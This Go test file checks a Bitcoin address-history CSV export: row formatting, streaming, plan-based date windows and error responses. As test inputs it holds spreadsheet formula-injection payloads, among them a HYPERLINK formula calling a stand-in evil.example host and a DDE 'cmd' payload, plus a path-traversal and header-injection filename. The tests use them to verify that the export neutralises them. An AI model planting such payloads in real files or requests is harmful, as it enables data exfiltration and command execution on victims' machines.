package httpd

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/valyala/fasthttp"
	"golang.org/x/crypto/bcrypt"

	"github.com/addrwatch/addrwatch/actors"
	"github.com/addrwatch/addrwatch/chain"
)

// ---- a fake upstream with histories of any size ----

// csvAddr is one address of csvHistory: mempool unconfirmed transactions,
// then confirmed ones, the newest age before now and one every step
// before that.
type csvAddr struct {
	address   string
	mempool   int
	confirmed int
	age, step time.Duration
}

// csvHistory is a History whose transactions are computed from their
// position, so a history of 10,000 costs nothing to hold. The txid of
// position p of address i is i and p in hex around filler. Even positions receive,
// odd ones spend.
type csvHistory struct {
	now   time.Time
	addrs []csvAddr

	mu       sync.Mutex
	failFrom map[string]int // address → first offset whose Page fails
	onPage   func(address string, offset int)
}

const (
	csvTipHeight    = 900_000
	csvFee          = 150
	csvCounterparty = "bc1qcounterpartyxxxxxxxxxxxxxxxxxxxxxxxxx"
)

func (h *csvHistory) tx(i, p int) chain.Tx {
	a := h.addrs[i]
	tx := chain.Tx{TxID: fmt.Sprintf("%08x%s%08x", i, strings.Repeat("ab", 24), p), Fee: csvFee}
	if p >= a.mempool {
		back := a.age + time.Duration(p-a.mempool)*a.step
		tx.Confirmed, tx.BlockTime = true, h.now.Add(-back).UTC()
		tx.BlockHeight = csvTipHeight - int64(back/(10*time.Minute))
	}
	value := int64(1000 + p)
	if p%2 == 0 {
		tx.Inputs, tx.Outputs = []chain.TxIO{{Address: csvCounterparty, Value: value + csvFee}}, []chain.TxIO{{Address: a.address, Value: value}}
	} else {
		tx.Inputs, tx.Outputs = []chain.TxIO{{Address: a.address, Value: value + csvFee}}, []chain.TxIO{{Address: csvCounterparty, Value: value}}
	}
	return tx
}

func (h *csvHistory) fail(address string, fromOffset int) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.failFrom == nil {
		h.failFrom = map[string]int{}
	}
	h.failFrom[address] = fromOffset
}

func (h *csvHistory) Page(_ context.Context, address string, offset, limit int, _ bool) (chain.HistoryPage, error) {
	h.mu.Lock()
	from, failing := h.failFrom[address]
	hook := h.onPage
	h.mu.Unlock()
	if hook != nil {
		hook(address, offset)
	}
	if failing && offset >= from {
		return chain.HistoryPage{}, fmt.Errorf("fake upstream: %w", chain.ErrUpstream)
	}
	if offset >= chain.HistoryOffsetCeiling {
		return chain.HistoryPage{}, chain.ErrOffsetCeiling
	}
	for i, a := range h.addrs {
		if a.address != address {
			continue
		}
		total := a.mempool + a.confirmed
		end := min(offset+limit, total, chain.HistoryOffsetCeiling)
		p := chain.HistoryPage{Address: address, Offset: offset, NextOffset: max(end, offset), TotalCount: int64(total), MempoolCount: a.mempool,
			HasMore: end < total && end < chain.HistoryOffsetCeiling, CeilingReached: end >= chain.HistoryOffsetCeiling && total > chain.HistoryOffsetCeiling}
		for pos := offset; pos < end; pos++ {
			p.Txs = append(p.Txs, h.tx(i, pos))
		}
		return p, nil
	}
	return chain.HistoryPage{Address: address, Offset: offset, NextOffset: offset}, nil
}

func (h *csvHistory) Tx(_ context.Context, txid string) (chain.Tx, error) {
	if len(txid) == 64 {
		i, ierr := strconv.ParseUint(txid[:8], 16, 31)
		p, perr := strconv.ParseUint(txid[56:], 16, 31)
		if ierr == nil && perr == nil && int(i) < len(h.addrs) && int(p) < h.addrs[i].mempool+h.addrs[i].confirmed {
			return h.tx(int(i), int(p)), nil
		}
	}
	return chain.Tx{}, chain.ErrNotFound
}

// ---- a server on a memoryStore with the fake upstream ----

type csvTest struct {
	t       testing.TB
	hist    *csvHistory
	handler fasthttp.RequestHandler
	owner   string
	account string
}

// Real mainnet addresses (the card rules validate them).
const (
	csvAddrA = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
	csvAddrB = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
	csvAddrC = "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"
)

func newCSVTest(t testing.TB, plan actors.Plan, addrs ...csvAddr) *csvTest {
	t.Helper()
	o, hist := newHistoryOwnerTest(t, plan, addrs...)
	return &csvTest{t: t, hist: hist, handler: o.handler, owner: o.account.OwnerSecret, account: o.account.AccountID}
}

// newHistoryOwnerTest is an ownerTest of plan whose server reads History
// from a csvHistory of addrs.
func newHistoryOwnerTest(t testing.TB, plan actors.Plan, addrs ...csvAddr) (*ownerTest, *csvHistory) {
	t.Helper()
	c := newClock()
	hist := &csvHistory{now: c.now(), addrs: addrs}
	s := New(Config{Store: newMemoryStore(t), Now: c.now, PasswordCost: bcrypt.MinCost, History: hist})
	created, err := s.CreateAccount(context.Background(), plan, ownerTestPassword, "")
	if err != nil {
		t.Fatal(err)
	}
	return &ownerTest{server: s, clock: c, handler: s.PublicHandler(), account: created, password: ownerTestPassword}, hist
}

// request runs one owner request; the response body is not read yet.
func (e *csvTest) request(method, path string, body any) *fasthttp.RequestCtx {
	e.t.Helper()
	var req fasthttp.Request
	req.Header.SetMethod(method)
	req.SetRequestURI(path)
	req.Header.Set(fasthttp.HeaderAuthorization, "Bearer "+e.owner)
	if body != nil {
		b, _ := json.Marshal(body)
		req.Header.SetContentType("application/json")
		req.SetBody(b)
	}
	ctx := &fasthttp.RequestCtx{}
	ctx.Init(&req, &net.TCPAddr{IP: net.ParseIP("198.51.100.2"), Port: 40000}, nil)
	e.handler(ctx)
	return ctx
}

func (e *csvTest) mustJSON(method, path string, body any, want int) map[string]any {
	e.t.Helper()
	ctx := e.request(method, path, body)
	if ctx.Response.StatusCode() != want {
		e.t.Fatalf("%s %s: status %d, want %d: %s", method, path, ctx.Response.StatusCode(), want, ctx.Response.Body())
	}
	var m map[string]any
	json.Unmarshal(ctx.Response.Body(), &m)
	return m
}

func (e *csvTest) card(address, name string) string {
	e.t.Helper()
	m := e.mustJSON("POST", "/owner/v1/portfolio/cards", map[string]string{"address": address, "name": name}, fasthttp.StatusCreated)
	return m["card"].(map[string]any)["id"].(string)
}

func (e *csvTest) note(txid, text string) {
	e.t.Helper()
	e.mustJSON("PUT", "/owner/v1/history/notes/"+txid, map[string]string{"note": text}, fasthttp.StatusOK)
}

// download fetches a CSV that must be served (200) and parses it.
func (e *csvTest) download(path string) (raw string, rows [][]string, ctx *fasthttp.RequestCtx) {
	e.t.Helper()
	ctx = e.request("GET", path, nil)
	raw = string(ctx.Response.Body())
	if ctx.Response.StatusCode() != fasthttp.StatusOK {
		e.t.Fatalf("GET %s: status %d: %s", path, ctx.Response.StatusCode(), raw)
	}
	if ct := string(ctx.Response.Header.ContentType()); ct != "text/csv; charset=utf-8" {
		e.t.Fatalf("GET %s: Content-Type %q", path, ct)
	}
	rows, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil {
		e.t.Fatalf("GET %s: not RFC 4180 CSV: %v\n%.500s", path, err, raw)
	}
	return raw, rows, ctx
}

// mustFail fetches a download that must fail with the JSON error shape.
func (e *csvTest) mustFail(path string, status int, code actors.Code) {
	e.t.Helper()
	ctx := e.request("GET", path, nil)
	var body struct{ Code, Error string }
	if err := json.Unmarshal(ctx.Response.Body(), &body); err != nil || ctx.Response.StatusCode() != status || body.Code != string(code) || body.Error == "" {
		e.t.Fatalf("GET %s: status %d body %s, want %d %s", path, ctx.Response.StatusCode(), ctx.Response.Body(), status, code)
	}
	if d := ctx.Response.Header.Peek(fasthttp.HeaderContentDisposition); d != nil {
		e.t.Fatalf("GET %s: a failure offers a file: %s", path, d)
	}
}

func cardCSV(id string) string { return "/owner/v1/history/cards/" + id + "/transactions.csv" }

const combinedCSV = "/owner/v1/history.csv"

// ---- tests ----

// Every transaction of an extended card, over several pages: mempool first,
// newest first, the JSON History's amounts and times, the saved notes,
// CRLF line ends and the download headers.
func TestHistoryCSVCardRowsAndNotes(t *testing.T) {
	t.Parallel()
	e := newCSVTest(t, actors.PlanExtended, csvAddr{address: csvAddrA, mempool: 3, confirmed: 250, age: time.Hour, step: 24 * time.Hour})
	id := e.card(csvAddrA, "Savings")
	mempoolTx, spendTx := e.hist.tx(0, 1), e.hist.tx(0, 200) // 200: on the third page, older than a year
	e.note(mempoolTx.TxID, "rent for May")
	e.note(spendTx.TxID, "old spend")

	raw, rows, ctx := e.download(cardCSV(id))
	if !strings.HasPrefix(raw, "time,confirmed,block_height,txid,direction,amount_sat,fee_sat,note\r\n") || strings.Count(raw, "\r\n") != 254 {
		t.Fatalf("header or line ends wrong: %.200q (%d CRLF)", raw, strings.Count(raw, "\r\n"))
	}
	wantName := fmt.Sprintf(`attachment; filename="addrwatch-savings-card-%s-full-to-2026-05-01.csv"`, id)
	if got := string(ctx.Response.Header.Peek(fasthttp.HeaderContentDisposition)); got != wantName {
		t.Fatalf("Content-Disposition %q, want %q", got, wantName)
	}
	if got := string(ctx.Response.Header.Peek(fasthttp.HeaderCacheControl)); got != "no-store" {
		t.Fatalf("Cache-Control %q", got)
	}
	if len(rows) != 1+253 {
		t.Fatalf("%d rows, want the header and 253 transactions", len(rows))
	}
	for p, row := range rows[1:] {
		tx := e.hist.tx(0, p)
		want := []string{"", "false", "", tx.TxID, "received", fmt.Sprint(1000 + p), "150", ""}
		if tx.Confirmed {
			want[0], want[1], want[2] = tx.BlockTime.Format(time.RFC3339), "true", fmt.Sprint(tx.BlockHeight)
		}
		if p%2 == 1 {
			want[4], want[5] = "spent", fmt.Sprint(-(1000 + p + csvFee))
		}
		switch tx.TxID {
		case mempoolTx.TxID:
			want[7] = "rent for May"
		case spendTx.TxID:
			want[7] = "old spend"
		}
		if strings.Join(row, "|") != strings.Join(want, "|") {
			t.Fatalf("row %d:\n got %q\nwant %q", p+1, row, want)
		}
	}
	if rows[2][0] != "" || !strings.HasSuffix(rows[4][0], "Z") {
		t.Fatalf("times: mempool %q, confirmed %q", rows[2][0], rows[4][0])
	}
}

// Notes and card names with commas, quotes and line breaks are quoted as
// RFC 4180 says; text that a spreadsheet would run as a formula gets a
// leading quote; a negative amount stays a number.
func TestHistoryCSVQuotesAndNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	e := newCSVTest(t, actors.PlanExtended, csvAddr{address: csvAddrA, confirmed: 8, age: time.Hour, step: time.Hour})
	id := e.card(csvAddrA, `=HYPERLINK("http://evil.example/?x","a, b")`)
	notes := []struct{ text, want string }{
		{"he said \"hi\", then\nleft", "he said \"hi\", then\nleft"},
		{"=1+2", "'=1+2"},
		{"+SUM(A1:A9)", "'+SUM(A1:A9)"},
		{"-2+3", "'-2+3"},
		{"@cmd", "'@cmd"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'=1"}, // encoding/csv writes no lone CR in CRLF mode: the quote still leads
		{"a=b, fine", "a=b, fine"},
	}
	for p, n := range notes {
		e.note(e.hist.tx(0, p).TxID, n.text)
	}
	raw, rows, _ := e.download(cardCSV(id))
	if !strings.Contains(raw, "\"he said \"\"hi\"\", then\r\nleft\"") {
		t.Fatalf("the note with a quote, a comma and a line break is not quoted: %q", raw)
	}
	for p, n := range notes {
		if got := rows[1+p][7]; got != n.want {
			t.Errorf("note %q: cell %q, want %q", n.text, got, n.want)
		}
		if p%2 == 1 && !strings.HasPrefix(rows[1+p][5], "-") {
			t.Errorf("amount of a spend %q: not a negative number", rows[1+p][5])
		}
	}

	_, rows, _ = e.download(combinedCSV)
	if rows[0][3] != "card_id" || rows[0][4] != "card_name" {
		t.Fatalf("combined header %q", rows[0])
	}
	if got, want := rows[1][4], `'=HYPERLINK("http://evil.example/?x","a, b")`; got != want || rows[1][3] != id {
		t.Fatalf("combined card cells %q %q, want %q %q", rows[1][3], got, id, want)
	}
}

// The base plan's file holds the latest calendar year, inclusive UTC dates
// (on 2026-05-01: 2025-05-02 through 2026-05-01), and a card with nothing in
// it gives no rows although the JSON History previews older ones; the
// extended plan's file holds everything.
func TestHistoryCSVWindowPerPlan(t *testing.T) {
	t.Parallel()
	busy := csvAddr{address: csvAddrA, mempool: 1, confirmed: 500, age: 12 * time.Hour, step: 24 * time.Hour}
	dormant := csvAddr{address: csvAddrB, confirmed: 30, age: 400 * 24 * time.Hour, step: 24 * time.Hour}
	for _, plan := range []actors.Plan{actors.PlanBase, actors.PlanExtended} {
		t.Run(string(plan), func(t *testing.T) {
			e := newCSVTest(t, plan, busy, dormant)
			busyID, dormantID := e.card(csvAddrA, "Busy"), e.card(csvAddrB, "Dormant")

			_, rows, ctx := e.download(cardCSV(busyID))
			first, last := rows[2][0], rows[len(rows)-1][0] // rows[1] is the mempool one
			disposition := string(ctx.Response.Header.Peek(fasthttp.HeaderContentDisposition))
			if plan == actors.PlanBase {
				// Daily at midnight from 2026-05-01T00:00Z back: 365 days
				// from 2026-05-01 to 2025-05-02, plus the mempool one.
				if len(rows) != 1+1+365 || first != "2026-05-01T00:00:00Z" || last != "2025-05-02T00:00:00Z" {
					t.Fatalf("base: %d rows from %s to %s, want 366 from 2026-05-01 to 2025-05-02", len(rows)-1, first, last)
				}
				if !strings.HasSuffix(disposition, `-2025-05-02-to-2026-05-01.csv"`) {
					t.Fatalf("base: Content-Disposition %q", disposition)
				}
			} else if len(rows) != 1+501 || last != "2024-12-18T00:00:00Z" {
				t.Fatalf("extended: %d rows, last %s, want 501 back to 2024-12-18", len(rows)-1, last)
			}

			page := e.mustJSON("GET", "/owner/v1/history/cards/"+dormantID+"/transactions", nil, fasthttp.StatusOK)
			preview := page["history_export"].(map[string]any)["older_preview"].(bool)
			_, rows, _ = e.download(cardCSV(dormantID))
			if plan == actors.PlanBase && (!preview || len(rows) != 1) {
				t.Fatalf("base dormant card: JSON preview %v, CSV rows %d; want a preview on screen and no rows in the file", preview, len(rows)-1)
			}
			if plan == actors.PlanExtended && len(rows) != 1+30 {
				t.Fatalf("extended dormant card: %d rows, want 30", len(rows)-1)
			}

			_, rows, ctx = e.download(combinedCSV)
			want := 1 + 1 + 365
			if plan == actors.PlanExtended {
				want = 1 + 501 + 30
			}
			if len(rows) != want {
				t.Fatalf("combined: %d rows, want %d", len(rows), want)
			}
			wantName := fmt.Sprintf(`attachment; filename="addrwatch-history-%s-`, e.account)
			if got := string(ctx.Response.Header.Peek(fasthttp.HeaderContentDisposition)); !strings.HasPrefix(got, wantName) {
				t.Fatalf("combined: Content-Disposition %q, want it to start %q", got, wantName)
			}
		})
	}
}

// The combined file interleaves the cards newest first, by block, with
// each row naming its card.
func TestHistoryCSVCombinedOrder(t *testing.T) {
	t.Parallel()
	e := newCSVTest(t, actors.PlanExtended,
		csvAddr{address: csvAddrA, mempool: 1, confirmed: 150, age: time.Hour, step: 3 * time.Hour},
		csvAddr{address: csvAddrB, confirmed: 220, age: 2 * time.Hour, step: 2 * time.Hour})
	a, b := e.card(csvAddrA, "A"), e.card(csvAddrB, "B")
	_, rows, _ := e.download(combinedCSV)
	if len(rows) != 1+151+220 {
		t.Fatalf("%d rows, want 371", len(rows)-1)
	}
	if rows[1][1] != "false" || rows[1][3] != a {
		t.Fatalf("the unconfirmed transaction is not first: %q", rows[1])
	}
	count := map[string]int{}
	for i := 2; i < len(rows); i++ {
		count[rows[i][3]]++
		var h, prev int
		fmt.Sscan(rows[i][2], &h)
		fmt.Sscan(rows[i-1][2], &prev)
		if i > 2 && h > prev {
			t.Fatalf("row %d (height %d) after a lower block (%d)", i, h, prev)
		}
	}
	if count[a] != 150 || count[b] != 220 {
		t.Fatalf("rows per card %v", count)
	}
}

// Unknown cards, unknown query parameters and a missing credential get the
// documented errors, not a file.
func TestHistoryCSVRefusals(t *testing.T) {
	t.Parallel()
	e := newCSVTest(t, actors.PlanBase, csvAddr{address: csvAddrA, confirmed: 3, age: time.Hour, step: time.Hour})
	id := e.card(csvAddrA, "A")
	e.mustFail(cardCSV("nosuchcard"), fasthttp.StatusNotFound, actors.CodeNotFound)
	e.mustFail(cardCSV(id)+"?offset=5", fasthttp.StatusUnprocessableEntity, actors.CodeValidation)
	e.mustFail(combinedCSV+"?force_refresh=true", fasthttp.StatusUnprocessableEntity, actors.CodeValidation)
	e.owner = "not-a-credential"
	e.mustFail(combinedCSV, fasthttp.StatusUnauthorized, actors.CodeUnauthorized)
	e.mustFail(cardCSV(id), fasthttp.StatusUnauthorized, actors.CodeUnauthorized)
}

// An upstream that fails on a card's first page gives the JSON History's
// upstream error, 503 HTTP_ERROR, and no file at all.
func TestHistoryCSVUpstreamDownIsAnError(t *testing.T) {
	t.Parallel()
	e := newCSVTest(t, actors.PlanExtended,
		csvAddr{address: csvAddrA, confirmed: 10, age: time.Hour, step: time.Hour},
		csvAddr{address: csvAddrB, confirmed: 10, age: time.Hour, step: time.Hour})
	a, _ := e.card(csvAddrA, "A"), e.card(csvAddrB, "B")
	e.hist.fail(csvAddrB, 0)
	e.download(cardCSV(a)) // the healthy card alone still downloads
	e.mustFail(combinedCSV, fasthttp.StatusServiceUnavailable, actors.CodeHTTPError)
	e.hist.fail(csvAddrA, 0)
	e.mustFail(cardCSV(a), fasthttp.StatusServiceUnavailable, actors.CodeHTTPError)
}

// An upstream that fails once rows have gone out ends the file with an
// INCOMPLETE row saying how far it got.
func TestHistoryCSVUpstreamFailureMidFileIsMarked(t *testing.T) {
	t.Parallel()
	e := newCSVTest(t, actors.PlanExtended,
		csvAddr{address: csvAddrA, confirmed: 350, age: time.Hour, step: time.Hour},
		csvAddr{address: csvAddrB, confirmed: 5, age: time.Hour, step: time.Hour})
	a, _ := e.card(csvAddrA, "A"), e.card(csvAddrB, "B")
	e.hist.fail(csvAddrA, 200)
	for _, path := range []string{cardCSV(a), combinedCSV} {
		_, rows, _ := e.download(path)
		last := rows[len(rows)-1]
		if last[0] != csvIncomplete || !strings.Contains(last[1], "incomplete, download it again") {
			t.Fatalf("%s: last row %q, want the INCOMPLETE row", path, last)
		}
		if path == cardCSV(a) && (len(rows) != 1+200+1 || !strings.Contains(last[1], "after 200 transactions")) {
			t.Fatalf("%s: %d rows, last %q; want 200 transactions then INCOMPLETE", path, len(rows), last)
		}
	}
}

// A history past the upstream offset ceiling, where the JSON History says
// complete: false, streams its 10,000 transactions as they are fetched (the
// client has the earlier pages before the later ones are asked for, so the
// file is never held whole) and ends with the INCOMPLETE row.
func TestHistoryCSVStreamsAndMarksTheOffsetCeiling(t *testing.T) {
	t.Parallel()
	e := newCSVTest(t, actors.PlanExtended, csvAddr{address: csvAddrA, confirmed: chain.HistoryOffsetCeiling + 50, age: time.Hour, step: time.Minute})
	id := e.card(csvAddrA, "Exchange")
	page := e.mustJSON("GET", "/owner/v1/history/cards/"+id+"/transactions?offset=9900&limit=100", nil, fasthttp.StatusOK)
	if page["complete"] != false {
		t.Fatalf("the JSON History of the same card says complete %v", page["complete"])
	}

	// Every row is longer than csvRowBytesMin, and the server holds at most
	// csvInFlightMax bytes it has written but the client has not read (its
	// buffers and fasthttp's, a page of rows); buffering the whole file
	// (about 1.2 MB) would break the bound at once.
	const csvRowBytesMin, csvInFlightMax = 100, 64 << 10
	var read atomic.Int64
	var late []string
	var mu sync.Mutex
	e.hist.mu.Lock()
	e.hist.onPage = func(_ string, offset int) {
		if lag := int64(offset)*csvRowBytesMin - read.Load(); lag > csvInFlightMax {
			mu.Lock()
			late = append(late, fmt.Sprintf("page at %d asked for with %d bytes read", offset, read.Load()))
			mu.Unlock()
		}
	}
	e.hist.mu.Unlock()
	ctx := e.request("GET", cardCSV(id), nil)
	stream := ctx.Response.BodyStream()
	if stream == nil {
		t.Fatal("the body is not streamed")
	}
	var body bytes.Buffer
	buf := make([]byte, 512)
	for {
		n, err := stream.Read(buf)
		body.Write(buf[:n])
		read.Add(int64(n))
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	ctx.Response.CloseBodyStream()
	if len(late) > 0 {
		t.Fatalf("not streamed: %d pages asked for too early, the first: %s", len(late), late[0])
	}
	rows, err := csv.NewReader(&body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	last := rows[len(rows)-1]
	if len(rows) != 1+chain.HistoryOffsetCeiling+1 || last[0] != csvIncomplete || !strings.Contains(last[1], "offset ceiling of 10000") {
		t.Fatalf("%d rows, last %q; want 10,000 transactions and the INCOMPLETE row", len(rows), last)
	}
	if rows[len(rows)-2][3] != e.hist.tx(0, chain.HistoryOffsetCeiling-1).TxID {
		t.Fatalf("the last transaction row is %q", rows[len(rows)-2])
	}
}

func TestHistoryCSVFileNamePart(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"Savings":                     "savings",
		`a"b\c/d`:                     "a-b-c-d",
		"  Café ünïcode — 2026 ":      "caf-n-code-2026",
		"=cmd|' /C calc'!A0":          "cmd-c-calc-a0",
		"":                            "",
		strings.Repeat("x", 100):      strings.Repeat("x", fileNamePartMax),
		"..\\..\\etc\\passwd\r\nX: y": "etc-passwd-x-y",
	} {
		if got := fileNamePart(in); got != want {
			t.Errorf("fileNamePart(%q) = %q, want %q", in, got, want)
		}
	}
}

// A download may take longer to write than the edge's write timeout (a full
// history is hundreds of upstream pages); nothing else may.
func TestHistoryCSVWriteTimeout(t *testing.T) {
	t.Parallel()
	for uri, want := range map[string]time.Duration{
		"/owner/v1/history.csv":                            historyCSVWriteTimeout,
		"/owner/v1/history.csv?x=1":                        historyCSVWriteTimeout,
		"/owner/v1/history/cards/abc/transactions.csv":     historyCSVWriteTimeout,
		"/owner/v1/history/cards/abc/transactions":         0,
		"/owner/v1/history/cards/a/b/transactions.csv":     0,
		"/owner/v1/history":                                0,
		"/v1/history.csv":                                  0,
		"/owner/v1/portfolio/cards/x/history/transactions": 0,
		"/downloads/history.csv":                           historyCSVWriteTimeout,
		"/downloads/history/cards/abc/transactions.csv":    historyCSVWriteTimeout,
		"/downloads/cards/abc/transactions.csv":            0,
	} {
		if got := csvWriteTimeoutOf(t, "GET", uri); got != want {
			t.Errorf("GET %s: write timeout %s, want %s", uri, got, want)
		}
	}
	if got := csvWriteTimeoutOf(t, "POST", "/owner/v1/history.csv"); got != 0 {
		t.Errorf("POST: write timeout %s", got)
	}
}

func csvWriteTimeoutOf(t *testing.T, method, uri string) time.Duration {
	t.Helper()
	var h fasthttp.RequestHeader
	if err := h.Read(bufio.NewReader(strings.NewReader(method + " " + uri + " HTTP/1.1\r\nHost: x\r\n\r\n"))); err != nil {
		t.Fatal(err)
	}
	return (&Server{}).listener("test", false).HeaderReceived(&h).WriteTimeout
}
